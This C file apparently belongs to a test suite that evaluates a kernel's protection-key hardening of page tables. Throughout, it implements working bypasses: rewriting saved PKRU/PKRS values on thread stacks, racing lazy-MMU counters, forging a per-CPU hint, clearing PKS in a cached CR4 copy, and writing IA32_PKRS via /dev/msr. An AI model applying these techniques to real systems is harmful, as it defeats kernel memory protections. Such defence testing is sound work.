// SPDX-License-Identifier: GPL-2.0-only
/*
 * Where the pkey register of a thread comes from: values that the kernel keeps
 * in memory while the thread is switched out or interrupted, and what decides
 * whether a section is opened and closed. And where the registers of the CPU come
 * from that give the pkeys their force. The thread then does what direct-write does.
 *
 * Judged, and left out:
 *  - cr4_pinned_bits on x86: the kernel makes it read-only once it has booted.
 *  - What an interrupt saves of a function that writes IA32_PKRS: the function
 *    starts again, of which KUnit has a test. Emulators deliver interrupts between
 *    stretches of code, and so never there.
 */
#include "attack.h"

#include <signal.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/timerfd.h>

#include <misc/kpkeys_bench.h>

/* Races: how often one is tried, by processes that do not survive if it is lost. */
#define SECTION_TRIES	4
#define INTERRUPT_TRIES	16
#define INTERRUPT_NS	30000000000ULL	/* after which no other one is begun */
#define NR_TIMERS	200

/*
 * words[]: the thread's task_struct, go on, the hammer's switch, the new counts,
 * whether the attack sleeps
 */
#define TASK	(&shared->words[0])
#define GO_ON	(&shared->words[1])
#define HAMMER	(&shared->words[2])
#define COUNTS	(&shared->words[3])
#define ASLEEP	(&shared->words[4])

static char *range;

static int direct(void)
{
	return steal_by_write(own_page_slot());
}

static bool write_lazily(u64 slot, u64 value)
{
	kernel_write_lazily(slot, value);
	return true;
}

static int in_section(void)
{
	return steal_by(write_lazily, own_page_slot());
}

/*
 * Whether half of a word can be a register in the default context, with which
 * the page tables' pkey, number 1, may be read but not written; and the same
 * with the right to write.
 */
static bool is_register(u64 word, unsigned int half, u64 *open)
{
	if (on_arch("um") || on_arch("x86_64")) {
		uint32_t pkru = word >> 32 * half;

		/* Most pkeys are closed, as the host's kernel starts programs. */
		if (pkru >> 8 != 0x555555 || (pkru & 0xf) != 8)
			return false;
		*open = word & ~(0xcULL << 32 * half);
		return true;
	}
	if (half || word >> 12 || (word & 0xff) != 0x17)
		return false;
	*open = word | 0x40;
	return true;
}

/* Opens every value between @from and @to. Returns how many there were. */
static unsigned int open_registers(u64 from, u64 to)
{
	unsigned int half, n = 0;
	u64 word, open;

	for (; from < to; from += 8) {
		word = kernel_read(from);
		for (half = 0; half < 2; half++) {
			if (!is_register(word, half, &open))
				continue;
			kernel_write(from, open);
			word = open;
			n++;
		}
	}
	return n;
}

static void tell_task(void)
{
	struct kpkeys_attack_leak own = {};

	get_leak(&own, NULL);
	*(volatile u64 *)TASK = own.task;
}

static int sleeper(void *arg)
{
	int *pipe_fds = arg;
	char c;

	tell_task();
	if (read(pipe_fds[0], &c, 1) != 1)
		return 1;
	return steal_as_helper(NULL);
}

/* A thread that sleeps in a system call. */
static int switched_out(void)
{
	int pipe_fds[2];
	u64 task, stack, thread;
	pid_t pid;

	if (pipe(pipe_fds))
		die("no pipe");
	pid = start(sleeper, pipe_fds);
	while (!*(volatile u64 *)TASK)
		usleep(1000);
	usleep(100000);

	task = *TASK;
	thread = task + lookup("task_struct.thread");
	stack = kernel_read(task + lookup("task_struct.stack"));
	open_registers(thread, thread + lookup("sizeof thread_struct"));
	open_registers(stack, stack + lookup("THREAD_SIZE"));

	if (write(pipe_fds[1], "", 1) != 1)
		die("cannot wake the thread");
	return steal_with_helper(pid) ? DONE : GAINED_NOTHING;
}

static bool hammering(void)
{
	return *(volatile u64 *)HAMMER;
}

/* Many timers at once: the interrupt handler of this CPU is slow. */
static void slow_interrupts(void)
{
	struct itimerspec spec = { { 0, 10000000 }, { 0, 10000000 } };
	int i, fd;

	for (i = 0; i < NR_TIMERS; i++) {
		fd = timerfd_create(CLOCK_MONOTONIC, 0);
		if (fd < 0 || timerfd_settime(fd, 0, &spec, NULL))
			die("cannot start a timer");
	}
}

/*
 * A process that changes page tables on CPU 1, and then writes to one, while
 * this one writes to the kernel's memory on CPU 0.
 */
static int busy_in_sections(void *arg)
{
	u64 end;

	(void)arg;
	run_on_cpu(1);
	if (!*(volatile u64 *)COUNTS)
		slow_interrupts();
	tell_task();
	while (!*(volatile u64 *)GO_ON)
		sched_yield();
	end = now_ns() + 1000000000ULL;
	do {
		mprotect(range, PMD_SIZE, PROT_READ);
		mprotect(range, PMD_SIZE, PROT_READ | PROT_WRITE);
	} while (hammering() && now_ns() < end);
	*(volatile u64 *)HAMMER = 0;
	return steal_as_helper(NULL);
}

static int busy_in_user_mode(void *arg)
{
	u64 end;

	(void)arg;
	run_on_cpu(1);
	slow_interrupts();
	tell_task();
	while (!*(volatile u64 *)GO_ON)
		sched_yield();
	end = now_ns() + 1000000000ULL;
	while (now_ns() < end)
		sched_yield();
	*(volatile u64 *)HAMMER = 0;
	return steal_as_helper(NULL);
}

static pid_t start_busy(int (*fn)(void *))
{
	pid_t pid;

	*TASK = *GO_ON = 0;
	*HAMMER = 1;
	pid = start(fn, NULL);
	while (!*(volatile u64 *)TASK)
		usleep(1000);
	return pid;
}

static int prepare_race(void)
{
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return not_possible("one CPU only");
	run_on_cpu(0);
	range = table_range(0);
	memset(range, 1, PMD_SIZE);
	return 0;
}

/*
 * Sees a thread in a lazy MMU section, whose first counter is 1, and writes both.
 * Done by a process with memory of its own.
 */
static int write_counts(u64 counts)
{
	unsigned int shift = (counts & 7) * 8;
	u64 addr = counts & ~7ULL, word, start, end = now_ns() + 5000000000ULL;

	run_on_cpu(0);
	wait_for(ASLEEP, 1);
	usleep(200000);
	while (hammering() && now_ns() < end) {
		*(volatile u64 *)GO_ON = 1;
		start = now_ns();
		do {
			word = kernel_read(addr);
			if ((word >> shift & 0xffff) != 1)
				continue;
			kernel_write(addr, (word & ~(0xffffULL << shift)) |
				     *(volatile u64 *)COUNTS << shift);
			*(volatile u64 *)HAMMER = 0;
		} while (hammering() && now_ns() - start < 50000000);
		usleep(1000);
	}
	return 0;
}

static int hammer_counts(u64 value)
{
	u64 counts;
	int tries;

	if (!try_lookup("task_struct.lazy_mmu_state", &counts))
		return not_possible("there is no lazy MMU mode");
	if (prepare_race())
		return NOT_POSSIBLE;
	for (tries = 0; tries < SECTION_TRIES; tries++) {
		pid_t pid, hammer;

		*COUNTS = value;
		pid = start_busy(busy_in_sections);
		*ASLEEP = 0;
		shared->nr_writes = 0;
		hammer = fork();
		if (!hammer)
			_exit(write_counts(*TASK + counts));
		*ASLEEP = 1;
		waitpid(hammer, NULL, 0);
		if (steal_with_helper(pid))
			return DONE;
	}
	return GAINED_NOTHING;
}

static int enable_count(void)
{
	return hammer_counts(2);
}

static int pause_count(void)
{
	return hammer_counts(0x101);
}

/*
 * What is on the stack of a thread that an interrupt has stopped. On UML that is
 * the frame of the host's signal, whose end loads the register from it.
 */
static int interrupted(void)
{
	u64 found[16], from, to, word, open, end;
	unsigned int halves[16], n, i, half;
	int tries;

	/* Who hits the moment before the handler returns may win, or end the machine. */
	if (protected && on_arch("um"))
		return not_possible("the host keeps the register in a signal frame");
	if (prepare_race())
		return NOT_POSSIBLE;
	end = now_ns() + INTERRUPT_NS;
	for (tries = 0; tries < INTERRUPT_TRIES && now_ns() < end; tries++) {
		pid_t pid = start_busy(on_arch("um") ? busy_in_user_mode : busy_in_sections);

		if (on_arch("um"))
			from = lookup("cpu_irqstacks") + lookup("THREAD_SIZE");
		else
			from = kernel_read(*TASK + lookup("task_struct.stack"));
		to = from + lookup("THREAD_SIZE");

		/* What earlier interrupts have left behind shows where to write. */
		for (n = 0; from < to && n < ARRAY_SIZE(found); from += 8) {
			word = kernel_read(from);
			for (half = 0; half < 2 && n < ARRAY_SIZE(found); half++) {
				if (!is_register(word, half, &open))
					continue;
				halves[n] = half;
				found[n++] = from;
			}
		}
		shared->nr_writes = n;
		*(volatile u64 *)GO_ON = 1;
		while (hammering()) {
			/* Other things are there at other times: they would only end the machine. */
			for (i = 0; i < n; i++)
				if (is_register(kernel_read(found[i]), halves[i], &open))
					restore(found[i], open);
			if (!n)
				sched_yield();
		}
		if (steal_with_helper(pid))
			return DONE;
	}
	return GAINED_NOTHING;
}

/*
 * words[] of what follows: the sections that there were, another process is to
 * write; the switch is as above
 */
#define SECTIONS	(&shared->words[0])
#define WRITE		(&shared->words[4])

/*
 * The note that x86 keeps of the register, since reading that is slow: whether a
 * section has it open on this CPU. Who is told so does not open it; who is told
 * otherwise may not close it, or may do so too early. It is forged while a process
 * is in sections all the time, which then writes to a page table.
 */

#define HINT_TRIES	24

static int hint_cpu;

/*
 * Without the lock of an mm, lest others wait for ever if a setter faults, and each a
 * short one, so that there is much to be hit between the last entry and the end.
 */
static int sections(void *arg)
{
	struct kpkeys_bench sections = {
		.op = KPKEYS_BENCH_VMALLOC, .pages = 1, .iterations = 4,
	};
	int device = open("/dev/" KPKEYS_BENCH_DEVICE, O_RDWR | O_CLOEXEC);

	run_on_cpu(hint_cpu);
	do {
		if (ioctl(device, KPKEYS_BENCH_RUN, &sections))
			die("/dev/" KPKEYS_BENCH_DEVICE ": %s", strerror(errno));
		++*(volatile u64 *)SECTIONS;
	} while (hammering());
	return steal_as_helper(arg);
}

/* Gets the CPU from the process that is in sections. */
static int other_writer(void *arg)
{
	run_on_cpu(hint_cpu);
	while (!*(volatile u64 *)WRITE)
		usleep(1000);
	return steal_as_helper(arg);
}

static void hammer_word(u64 addr, uint32_t value, u64 ns)
{
	u64 end = now_ns() + ns;

	while (now_ns() < end && !helper_wrote())
		kernel_write32(addr, value);
}

/*
 * Once: the next section faults, and after that it would be somebody else's, who is
 * to be left alone.
 */
static bool forge_open(u64 hint, int try)
{
	u64 old, end = now_ns() + 100000000;
	pid_t other = try % 2 ? start(other_writer, NULL) : 0;

	old = *(volatile u64 *)SECTIONS;
	while (*(volatile u64 *)SECTIONS == old && now_ns() < end)
		;
	kernel_write32(hint, 1);
	if (!other)
		return false;
	*(volatile u64 *)WRITE = 1;
	return steal_with_helper(other);
}

static int forge_hint(uint32_t value)
{
	int tries;
	u64 hint;

	if (!on_arch("x86_64"))
		return not_possible("the register itself is read");
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return not_possible("one CPU only");
	/* If there are more, one that nobody else of this program runs on. */
	hint_cpu = sysconf(_SC_NPROCESSORS_ONLN) > 2 ? 2 : 1;
	run_on_cpu(0);
	hint = per_cpu(lookup("x86_kpkeys_hint"), hint_cpu);

	for (tries = 0; tries < HINT_TRIES; tries++) {
		pid_t busy;

		*SECTIONS = *WRITE = 0;
		*HAMMER = 1;
		busy = start(sections, NULL);
		while (!*(volatile u64 *)SECTIONS)
			usleep(1000);
		if (value) {
			if (forge_open(hint, tries))
				return DONE;
			*(volatile u64 *)HAMMER = 0;
		} else {
			hammer_word(hint, 0, 2000000 + tries * 100000);
			*(volatile u64 *)HAMMER = 0;
			hammer_word(hint, 0, 30000000);
		}
		if (steal_with_helper(busy))
			return DONE;
	}
	return GAINED_NOTHING;
}

/* Whoever is in a section that is not open faults there, in the middle of vmalloc(). */
static int hint_open(void)
{
	shared->locks = true;
	return forge_hint(1);
}

static int hint_closed(void)
{
	return forge_hint(0);
}

#define X86_CR4_PKS	(1ULL << 24)

/* Has CR4 written twice, with a bit changed that has nothing to do with pkeys. */
static int write_cr4(void *arg)
{
	run_on_cpu(1);
	while (!*(volatile u64 *)GO_ON)
		sched_yield();
	if (prctl(PR_SET_TSC, PR_TSC_SIGSEGV) || prctl(PR_SET_TSC, PR_TSC_ENABLE))
		die("cannot change what the time stamp counter does");
	return steal_as_helper(arg);
}

/* The bit of CR4 that gives the pkeys their force, in the copy from which it is written. */
static int cr4_copy(void)
{
	u64 copy, old;
	bool won;
	pid_t pid;

	if (!on_arch("x86_64"))
		return not_possible("there is no copy");
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return not_possible("one CPU only");
	run_on_cpu(0);
	copy = per_cpu(lookup("cpu_tlbstate"), 1) + lookup("tlb_state.cr4");
	old = kernel_read(copy);
	pid = start(write_cr4, NULL);
	kernel_write(copy, old & ~X86_CR4_PKS);
	*(volatile u64 *)GO_ON = 1;
	won = steal_with_helper(pid);
	restore(copy, old);
	return won ? DONE : GAINED_NOTHING;
}

#define MSR_IA32_PKRS	0x6e1
#define MSR_MAJOR	202
#define MSR_TRIES	8

static struct {
	int device;
	u64 open;
} msr;

/*
 * The register stays open until the CPU switches threads, or ends a section of a setter.
 * So one process does both, at once. Where something comes in between, it is killed.
 */
static int open_and_write(void *arg)
{
	const struct kpkeys_attack_word *word = arg;

	/* It may fail: what counts is whether the register is open after that. */
	if (pwrite(msr.device, &msr.open, sizeof(msr.open), MSR_IA32_PKRS) < 0 && errno != EIO)
		die("MSR 0x%x: %s", MSR_IA32_PKRS, strerror(errno));
	kernel_write(word->addr, word->value);
	return 0;
}

static bool write_by_msr(u64 slot, u64 value)
{
	struct kpkeys_attack_word word = { .addr = slot, .value = value };
	int tries;

	for (tries = 0; tries < MSR_TRIES; tries++)
		if (ended_well(start(open_and_write, &word)))
			return true;
	return false;
}

/*
 * Many write MSRs whose numbers are in memory at some time, which the attacker could
 * change: counters of perf, what is saved over a suspend, calls of another CPU. The
 * device for root is one of them, and takes the number that it gets.
 */
static int msr_number(void)
{
	u64 reg;

	if (!on_arch("x86_64"))
		return not_possible("the register has no number");
	run_on_cpu(0);
	if (mknod("/msr", S_IFCHR | 0600, makedev(MSR_MAJOR, 0)) && errno != EEXIST)
		die("cannot make a device: %s", strerror(errno));
	msr.device = open("/msr", O_RDWR | O_CLOEXEC);
	if (msr.device < 0)
		die("MSRs of CPU 0: %s", strerror(errno));
	/* As the setters have it, if it is in use: interrupts return to no other value. */
	if (pread(msr.device, &reg, sizeof(reg), MSR_IA32_PKRS) == sizeof(reg))
		is_register(reg, 0, &msr.open);
	/* A page fault between the two would set a page table, and so close the register. */
	if (mlockall(MCL_CURRENT))
		die("cannot lock memory: %s", strerror(errno));
	return steal_by(write_by_msr, own_page_slot());
}

const struct attack registers[] = {
	{ "direct-write", "an entry of a page table", direct },
	{ "lazy-write", "an entry of a page table, by code in a lazy MMU section", in_section },
	{ "reg-switched-out", "the register of a thread that sleeps", switched_out },
	{ "lazy-enable-count", "lazy_mmu_state.enable_count, during a section", enable_count },
	{ "lazy-pause-count", "lazy_mmu_state.pause_count, during a section", pause_count },
	{ "reg-interrupted", "the register of a thread that is interrupted", interrupted },
	{ "cr4-copy", "the copy of CR4: without pkeys", cr4_copy },
	{ "msr-number", "the number of an MSR, and an entry of a page table", msr_number },
	{ "reg-hint-open", "the note of the register's context: in a section", hint_open },
	{ "reg-hint-closed", "the note of the register's context: in none", hint_closed },
	{ }
};
